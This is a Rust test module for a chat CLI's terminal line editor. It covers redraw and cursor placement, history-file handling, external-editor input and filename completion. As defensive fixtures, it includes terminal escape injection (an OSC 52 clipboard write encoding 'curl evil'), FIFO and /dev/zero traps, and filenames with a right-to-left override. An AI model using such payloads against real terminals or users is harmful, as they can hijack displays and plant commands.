    fn the_cursor_lands_where_the_terminal_drew_the_character_before_it() {
        use unicode_width::UnicodeWidthChar;
        let family = "\u{1f468}\u{200d}\u{1f469}\u{200d}\u{1f467}";
        // this terminal: `±` two columns, a ZWJ sequence two in all
        let cases = [("a±b±c", "de", 30, 0), (family, "x", 30, 0)];
        let widths = |t: &str| -> usize {
            let mut n = 0;
            let mut joined = false;
            for c in t.chars() {
                n += match c {
                    '±' => 2,
                    '\u{200d}' => {
                        joined = true;
                        0
                    }
                    _ if std::mem::take(&mut joined) => 0,
                    c => c.width().unwrap_or(0),
                };
            }
            n
        };
        for (left, right, w, row) in cases {
            let mut line = PromptLine::new(FileHistory::new(), false);
            line.start(left, right);
            let mut d = Drawn::default();
            let out = d.frame(&line, "› ", "› ", w, 10);
            let (r, col) = cursor_after(&out, w, widths);
            assert_eq!(r, row, "{out:?}");
            assert_eq!(col, 2 + widths(left), "{left:?}: {out:?}");
        }
        // a line over two rows, the cursor on the second: the same
        let mut line = PromptLine::new(FileHistory::new(), false);
        let left = format!("{}±±", "y".repeat(30));
        line.start(&left, "z");
        let mut d = Drawn::default();
        let out = d.frame(&line, "› ", "› ", 20, 10);
        let (r, col) = cursor_after(&out, 20, widths);
        assert_eq!((r, col), (1, widths(&left[18..])), "{out:?}");
    }

    /// Where a terminal that counts text by `widths` leaves its cursor
    /// after `out` (row from where it began, column), autowrap as `out`
    /// sets it.
    fn cursor_after(out: &str, cols: usize, widths: impl Fn(&str) -> usize) -> (usize, usize) {
        let (mut row, mut col, mut wrap) = (0usize, 0usize, true);
        let mut rest = out;
        while let Some(c) = rest.chars().next() {
            if let Some(csi) = rest.strip_prefix("\x1b[") {
                let end = csi.find(|c: char| c.is_ascii_alphabetic()).unwrap();
                let (params, op) = (&csi[..end], &csi[end..=end]);
                let n: usize = params.trim_start_matches('?').parse().unwrap_or(1);
                match (op, params) {
                    ("A", _) => row -= n,
                    ("B", _) => row += n,
                    ("C", _) => col = (col + n).min(cols - 1),
                    ("l", "?7") => wrap = false,
                    ("h", "?7") => wrap = true,
                    _ => {}
                }
                rest = &csi[end + 1..];
                continue;
            }
            match c {
                '\r' => col = 0,
                '\n' => row += 1,
                _ => {
                    // a run of text, counted whole (a ZWJ joins across it)
                    let end = rest.find(['\x1b', '\r', '\n']).unwrap_or(rest.len());
                    col += widths(&rest[..end]);
                    if col >= cols {
                        if wrap {
                            (row, col) = (row + col / cols, col % cols);
                        } else {
                            col = cols - 1;
                        }
                    }
                    rest = &rest[end..];
                    continue;
                }
            }
            rest = &rest[c.len_utf8()..];
        }
        (row, col)
    }

    /// After Ctrl-L the prompt sits on the screen's top row. tmux (its
    /// `scroll-on-clear`, on by default) takes an erase below from the
    /// top-left corner for a clear of the whole screen and keeps what was
    /// there in its history: each key typed left a copy of the line in the
    /// scrollback (`› a`, `› ab`, `› abc`). No redraw of the line, of one
    /// row or of several, erases from there.
    #[test]
    fn a_prompt_on_the_top_row_is_redrawn_without_clearing_the_screen() {
        let (w, h) = (20usize, 6usize);
        let tty = |s: String| s.replace('\n', "\r\n");
        let mut term = vt100::Parser::new(h as u16, w as u16, 0);
        let mut d = Drawn::default();
        let mut line = PromptLine::new(FileHistory::new(), false);
        // what is written, fed to the screen an erase at a time: where each
        // erase below starts
        let draw = |term: &mut vt100::Parser, out: String| {
            let out = tty(out);
            let mut parts = out.split("\x1b[J");
            term.process(parts.next().unwrap_or("").as_bytes());
            for part in parts {
                assert_ne!(
                    term.screen().cursor_position(),
                    (0, 0),
                    "an erase below from the top-left corner in {out:?}"
                );
                term.process(b"\x1b[J");
                term.process(part.as_bytes());
            }
        };
        for typed in ["", "a", "ab", &"x".repeat(45), "abc"] {
            line.start(typed, "");
            draw(&mut term, d.frame(&line, "› ", "› ", w, h));
        }
        let rows: Vec<String> = term.screen().rows(0, w as u16).collect();
        assert_eq!(rows[0], "› abc", "{rows:#?}");
        assert!(rows[1..].iter().all(String::is_empty), "{rows:#?}");
        assert_eq!(term.screen().cursor_position(), (0, 5));
    }

    /// A line taller than the screen (a paste of a thousand lines) is
    /// drawn in a window of the screen's rows around the cursor: each key
    /// writes a screenful at most, not the whole paste again (the bytes
    /// grew with the paste times the keys, and the scrollback took a copy
    /// of it on each), and the screen shows what a fresh draw shows.
    #[test]
    fn a_line_taller_than_the_screen_is_drawn_in_a_window_around_the_cursor() {
        let (w, h) = (40usize, 10usize);
        // the terminal's output processing (ONLCR, on in every mode the
        // chat sets): a newline starts its row at the first column
        let tty = |s: String| s.replace('\n', "\r\n");
        let paste: String = (0..1000).map(|i| format!("line {i}\n")).collect();
        let mut line = PromptLine::new(FileHistory::new(), false);
        let mut term = vt100::Parser::new(h as u16, w as u16, 0);
        let mut d = Drawn::default();
        term.process(b"\r\n\r\n");
        line.start(&format!("{paste}end"), "");
        term.process(tty(d.frame(&line, "› ", "› ", w, h)).as_bytes());
        // a key typed at the end: drawn again
        line.start(&format!("{paste}ends"), "");
        let again = d.frame(&line, "› ", "› ", w, h);
        assert!(
            again.len() <= w * h * 2,
            "{} bytes for one key",
            again.len()
        );
        term.process(tty(again).as_bytes());
        let rows: Vec<String> = term.screen().rows(0, w as u16).collect();
        let at = rows
            .iter()
            .position(|r| r == "ends")
            .unwrap_or_else(|| panic!("{rows:#?}"));
        assert_eq!(rows[at - 1], "line 999", "{rows:#?}");
        assert_eq!(term.screen().cursor_position(), (at as u16, 4));
        // the cursor moved to the first row: the window follows it, the
        // prompt on top
        line.start("", &format!("{paste}ends"));
        term.process(tty(d.frame(&line, "› ", "› ", w, h)).as_bytes());
        let rows: Vec<String> = term.screen().rows(0, w as u16).collect();
        let top = rows
            .iter()
            .position(|r| r == "› line 0")
            .expect("the prompt");
        assert_eq!(rows[top + 1], "line 1", "{rows:#?}");
        assert_eq!(term.screen().cursor_position(), (top as u16, 2));
        // and back at the end: as drawn afresh
        line.start(&format!("{paste}ends"), "");
        term.process(tty(d.frame(&line, "› ", "› ", w, h)).as_bytes());
        let mut fresh = vt100::Parser::new(h as u16, w as u16, 0);
        fresh.process(tty(Drawn::default().frame(&line, "› ", "› ", w, h)).as_bytes());
        let tail = |p: &vt100::Parser| -> Vec<String> {
            let rows: Vec<String> = p.screen().rows(0, w as u16).collect();
            let end = rows.iter().position(|r| r == "ends").unwrap();
            rows[end + 1 - (h - 1)..=end].to_vec()
        };
        assert_eq!(tail(&term), tail(&fresh));
    }

    /// Where the terminal gives a character another width than the
    /// layout does (here U+2630 ☰: two columns to unicode-width, one to
    /// many terminals and to the test's), the line's rows are still the
    /// layout's: each key's drawing starts where the last one did, and the
    /// chat's output above the prompt stays. Drawn as one stream that the
    /// terminal wrapped, the next drawing went up a row too many on each
    /// key, and ate the output above.
    #[test]
    fn a_width_the_terminal_disagrees_with_never_climbs_into_the_output() {
        let (w, h) = (40usize, 12usize);
        let tty = |s: String| s.replace('\n', "\r\n");
        let mut term = vt100::Parser::new(h as u16, w as u16, 0);
        term.process(b"answer one\r\nanswer two\r\n");
        let mut line = PromptLine::new(FileHistory::new(), false);
        let mut d = Drawn::default();
        let mut typed = String::new();
        for _ in 0..30 {
            typed.push('\u{2630}');
            line.start(&typed, "");
            term.process(tty(d.frame(&line, "› ", "› ", w, h)).as_bytes());
        }
        let rows: Vec<String> = term.screen().rows(0, w as u16).collect();
        assert_eq!(rows[0], "answer one", "{rows:#?}");
        assert_eq!(rows[1], "answer two", "{rows:#?}");
        // the layout's rows: 19 on the prompt's (2 + 38 columns), 11 after
        assert_eq!(rows[2], format!("› {}", "\u{2630}".repeat(19)), "{rows:#?}");
        assert_eq!(rows[3], "\u{2630}".repeat(11), "{rows:#?}");
        assert!(rows[4..].iter().all(|r| r.trim().is_empty()), "{rows:#?}");
        assert_eq!(term.screen().cursor_position().0, 3);
        // and the line read back to its start: drawn in place, once
        line.start("", &typed);
        term.process(tty(d.frame(&line, "› ", "› ", w, h)).as_bytes());
        let rows: Vec<String> = term.screen().rows(0, w as u16).collect();
        assert_eq!(rows[1], "answer two", "{rows:#?}");
        assert_eq!(term.screen().cursor_position(), (2, 2));
    }

    /// On a terminal one column wide the prompt and the line are laid
    /// out at one column, as the terminal shows them: each character on a
    /// row of its own, the cursor where it is typed, and each key's drawing
    /// starts where the last one did. They were laid out at two: the
    /// prompt took a row more than counted, each row of the line lost its
    /// first character, and each key's drawing began a row lower.
    #[test]
    fn at_one_column_the_line_is_drawn_at_one_column() {
        let (w, h) = (1usize, 16usize);
        let tty = |s: String| s.replace('\n', "\r\n");
        let mut term = vt100::Parser::new(h as u16, w as u16, 0);
        term.process(b"x\r\n");
        let mut line = PromptLine::new(FileHistory::new(), false);
        let mut d = Drawn::default();
        let mut typed = String::new();
        let rows = |term: &vt100::Parser| -> Vec<String> {
            let rows = term.screen().rows(0, w as u16);
            rows.map(|r| r.trim_end().to_owned()).collect()
        };
        for c in "abc".chars() {
            typed.push(c);
            line.start(&typed, "");
            term.process(tty(d.frame(&line, "› ", "› ", w, h)).as_bytes());
        }
        let drawn = rows(&term);
        assert_eq!(drawn[..7], ["x", "›", "", "a", "b", "c", ""], "{drawn:#?}");
        assert!(drawn[7..].iter().all(String::is_empty), "{drawn:#?}");
        assert_eq!(term.screen().cursor_position(), (6, 0));
        // the cursor back to the line's start: on its first row
        line.start("", &typed);
        term.process(tty(d.frame(&line, "› ", "› ", w, h)).as_bytes());
        assert_eq!(rows(&term), drawn);
        assert_eq!(term.screen().cursor_position(), (3, 0));
        // and on to its end again: as drawn afresh
        line.start(&typed, "");
        term.process(tty(d.frame(&line, "› ", "› ", w, h)).as_bytes());
        let mut fresh = vt100::Parser::new(h as u16, w as u16, 0);
        fresh.process(b"x\r\n");
        fresh.process(tty(Drawn::default().frame(&line, "› ", "› ", w, h)).as_bytes());
        assert_eq!(rows(&term), rows(&fresh));
        assert_eq!(term.screen().cursor_position(), (6, 0));
    }

    /// The history file is read as the person's data: a line that is not
    /// UTF-8 loses none of the entries after it (they were dropped, and
    /// the next save wrote the file over without them); a FIFO or a link
    /// to `/dev/zero` is passed over, saying why, never read nor waited
    /// on (the chat froze before its first prompt), and never written.
    #[test]
    fn a_hostile_history_file_loses_nothing_and_never_hangs() {
        let d = tempfile::tempdir().unwrap();
        let p = d.path().join("history");
        std::fs::write(&p, b"#V2\nfirst\nbad \xff byte\nthird\\nline\n").unwrap();
        let mut h = FileHistory::new();
        assert!(load_history(&mut h, &p).is_ok());
        let entries: Vec<String> = (0..h.len())
            .filter_map(|i| {
                h.get(i, rustyline::history::SearchDirection::Forward)
                    .ok()
                    .flatten()
            })
            .map(|e| e.entry.into_owned())
            .collect();
        assert_eq!(entries, ["first", "bad \u{fffd} byte", "third\nline"]);
        h.add("new").unwrap();
        save_history_to(&mut h, &p).unwrap();
        let saved = std::fs::read_to_string(&p).unwrap();
        assert!(saved.contains("first\n"), "{saved}");
        assert!(saved.contains("third\\nline\n"), "{saved}");
        assert!(saved.ends_with("new\n"), "{saved}");
        // no file at all: nothing to read, the first save makes it
        assert!(load_history(&mut FileHistory::new(), &d.path().join("none")).is_ok());
        // a FIFO, /dev/zero: passed over, never read or waited on
        let fifo = d.path().join("fifo");
        let c = std::ffi::CString::new(fifo.as_os_str().as_encoded_bytes()).unwrap();
        // SAFETY: a valid C string for the call
        assert_eq!(unsafe { libc::mkfifo(c.as_ptr(), 0o600) }, 0);
        let zero = d.path().join("zero");
        std::os::unix::fs::symlink("/dev/zero", &zero).unwrap();
        for p in [fifo, zero] {
            let (tx, rx) = std::sync::mpsc::channel();
            let q = p.clone();
            std::thread::spawn(move || {
                let _ = tx.send(load_history(&mut FileHistory::new(), &q));
            });
            let got = rx
                .recv_timeout(std::time::Duration::from_secs(60))
                .unwrap_or_else(|_| panic!("reading {} never ended", p.display()));
            assert!(got.is_err(), "{}: {got:?}", p.display());
        }
    }

    fn names(found: Option<(usize, Vec<Pair>)>) -> (usize, Vec<String>) {
        let (start, pairs) = found.expect("a mention");
        (start, pairs.into_iter().map(|p| p.replacement).collect())
    }

    #[test]
    fn tab_lists_names_in_columns_down_then_across() {
        let names = |v: &[&str]| v.iter().map(|s| (*s).to_owned()).collect::<Vec<_>>();
        assert_eq!(list(&names(&["/model", "/mode"]), 80), "\n/model  /mode\n");
        // 10 columns hold one name of 8: one a row
        assert_eq!(list(&names(&["/model", "/mode"]), 10), "\n/model\n/mode\n");
        assert_eq!(list(&names(&["/a", "/b", "/c"]), 8), "\n/a  /c\n/b\n");
    }

    #[test]
    fn a_temporary_folder_anyone_may_rename_in_is_refused() {
        use std::os::unix::fs::PermissionsExt;
        let d = tempfile::tempdir().unwrap();
        std::fs::set_permissions(d.path(), std::fs::Permissions::from_mode(0o777)).unwrap();
        let e = prompt_dir(d.path()).unwrap_err();
        assert!(e.to_string().contains("sticky"), "{e}");
        std::fs::set_permissions(d.path(), std::fs::Permissions::from_mode(0o1777)).unwrap();
        assert_eq!(prompt_dir(d.path()).unwrap(), d.path());
    }

    #[test]
    fn the_editor_is_visual_then_editor_then_vi() {
        assert_eq!(
            editor_command(Some("code --wait"), Some("nano")),
            "code --wait"
        );
        assert_eq!(editor_command(Some(" "), Some("nano")), "nano");
        assert_eq!(editor_command(None, None), "vi");
    }

    #[test]
    fn only_a_changed_non_empty_text_replaces_the_line() {
        assert_eq!(edited("fix it", "fix it\n"), None, "unchanged");
        assert_eq!(edited("fix it", "\n"), None, "emptied");
        assert_eq!(edited("fix it", "  \n\n"), None, "blank");
        assert_eq!(
            edited("fix it", "fix it\nand the docs\n").as_deref(),
            Some("fix it\nand the docs")
        );
        assert_eq!(edited("", "new\r\n").as_deref(), Some("new"));
    }

    #[test]
    fn the_editor_s_saved_text_comes_back() {
        // an "editor" that appends a line: what a person typing would do
        let d = tempfile::tempdir().unwrap();
        let script = d.path().join("ed.sh");
        std::fs::write(&script, "#!/bin/sh\nprintf ' and tests\\n' >> \"$1\"\n").unwrap();
        std::process::Command::new("chmod")
            .arg("+x")
            .arg(&script)
            .status()
            .unwrap();
        let got = edit_in_editor("write docs", &script.display().to_string()).unwrap();
        assert_eq!(got.as_deref(), Some("write docs and tests"));
        // an editor that fails changes nothing, and says so
        assert!(edit_in_editor("write docs", "false").is_err());
    }

    #[test]
    fn what_the_editor_saved_is_inert_and_read_bounded() {
        // a title change, a screen clear and an OSC 52 write in the file
        let got = edit_in_editor(
            "x",
            r"printf 'fix \033]0;pwned\007it\033[2J\033]52;c;Y3VybCBldmls\007 now\r\n' >",
        )
        .unwrap()
        .unwrap();
        assert_eq!(got, "fix it now");
        // the editor put a FIFO in the file's place: an error, never a hang
        let fifo = r#"f() { rm -f "$1"; mkfifo "$1"; }; f"#;
        assert!(edit_in_editor("x", fifo).is_err());
    }

    #[test]
    fn mentions_complete_relative_to_the_session() {
        let d = tempfile::tempdir().unwrap();
        std::fs::create_dir_all(d.path().join("src/cli")).unwrap();
        std::fs::write(d.path().join("src/main.rs"), "").unwrap();
        std::fs::write(d.path().join("notes.txt"), "").unwrap();
        std::fs::write(d.path().join(".env"), "").unwrap();
        let cwd = d.path();
        assert!(complete_mention("no mention", cwd).is_none());
        assert_eq!(
            names(complete_mention("read @", cwd)),
            (5, vec!["@notes.txt ".to_owned(), "@src/".to_owned()])
        );
        assert_eq!(
            names(complete_mention("read @src/", cwd)),
            (5, vec!["@src/cli/".to_owned(), "@src/main.rs ".to_owned()])
        );
        assert_eq!(
            names(complete_mention("@src/m", cwd)),
            (0, vec!["@src/main.rs ".to_owned()])
        );
        assert_eq!(names(complete_mention("see @.", cwd)).1, vec!["@.env "]);
        assert!(names(complete_mention("@nothing", cwd)).1.is_empty());
        assert!(complete_mention("@missing/dir/", cwd).is_none());
    }

    /// A name with a space is quoted as the CLI reads it, a folder's
    /// quote stays open, and Tab goes on inside the quotes (#40.2).
    #[test]
    fn names_with_spaces_are_quoted_and_completed_inside_the_quotes() {
        let d = tempfile::tempdir().unwrap();
        let cwd = d.path();
        std::fs::write(cwd.join("notes file.txt"), "").unwrap();
        std::fs::create_dir_all(cwd.join("my docs/deeper")).unwrap();
        std::fs::write(cwd.join("my docs/Screen Shot 1.png"), "").unwrap();
        std::fs::write(cwd.join("my docs/plain.txt"), "").unwrap();
        std::fs::write(cwd.join("my docs/say \"hi\""), "").unwrap();
        assert_eq!(
            names(complete_mention("and @note", cwd)),
            (4, vec![r#"@"notes file.txt" "#.to_owned()])
        );
        assert_eq!(
            names(complete_mention("@my", cwd)),
            (0, vec![r#"@"my docs/"#.to_owned()])
        );
        // inside the quotes, every name is quoted; one with a quote is
        // left out (it cannot be written so)
        assert_eq!(
            names(complete_mention(r#"see @"my docs/"#, cwd)),
            (
                4,
                vec![
                    r#"@"my docs/Screen Shot 1.png" "#.to_owned(),
                    r#"@"my docs/deeper/"#.to_owned(),
                    r#"@"my docs/plain.txt" "#.to_owned(),
                ]
            )
        );
        assert_eq!(
            names(complete_mention(r#"@"my docs/Scr"#, cwd)).1,
            [r#"@"my docs/Screen Shot 1.png" "#]
        );
        // a closed quote ends the mention: the next word is a new one
        assert!(complete_mention(r#"@"notes file.txt" and"#, cwd).is_none());
        assert_eq!(
            names(complete_mention(r#"@"notes file.txt" @no"#, cwd)),
            (18, vec![r#"@"notes file.txt" "#.to_owned()])
        );
        // an unquoted word ends at the blank: `docs/pl` is no mention
        assert!(complete_mention("@my docs/pl", cwd).is_none());
        // all quoted when one needs it: what is typed stays their prefix
        std::fs::write(cwd.join("notes.txt"), "").unwrap();
        let (_, pairs) = complete_mention("@note", cwd).unwrap();
        assert_eq!(
            rustyline::completion::longest_common_prefix(&pairs),
            Some(r#"@"notes"#)
        );
    }

    #[test]
    fn many_matches_offer_the_first_in_order_and_reach_every_name() {
        let d = tempfile::tempdir().unwrap();
        for i in 0..3000 {
            std::fs::write(d.path().join(format!("f{i:04}")), "").unwrap();
        }
        let (_, pairs) = complete_mention("@f", d.path()).unwrap();
        assert_eq!(pairs.len(), MAX_CANDIDATES + 1);
        let shown: Vec<&str> = pairs.iter().map(|p| p.replacement.as_str()).collect();
        let first: Vec<String> = (0..MAX_CANDIDATES).map(|i| format!("@f{i:04} ")).collect();
        assert_eq!(shown[..MAX_CANDIDATES], first[..]);
        assert_eq!(
            pairs[MAX_CANDIDATES].display,
            "… 2500 more (type more of the name)"
        );
        // Tab inserts no more than all 3000 names share
        assert_eq!(
            rustyline::completion::longest_common_prefix(&pairs),
            Some("@f")
        );
        // typing more reaches the last name
        let (_, pairs) = complete_mention("@f29", d.path()).unwrap();
        assert_eq!(pairs.len(), 100);
        assert_eq!(pairs[99].replacement, "@f2999 ");
        assert_eq!(names(complete_mention("@f2999", d.path())).1, ["@f2999 "]);
    }

    #[test]
    fn names_the_terminal_would_act_on_are_not_offered() {
        let d = tempfile::tempdir().unwrap();
        for name in [
            "ok.txt",
            "evil\u{202e}txt.exe",
            "iso\u{2066}x",
            "bell\u{7}",
            "c1\u{9b}x",
        ] {
            std::fs::write(d.path().join(name), "").unwrap();
        }
        assert_eq!(names(complete_mention("@", d.path())).1, ["@ok.txt "]);
        assert!(names(complete_mention("@evil", d.path())).1.is_empty());
    }
}
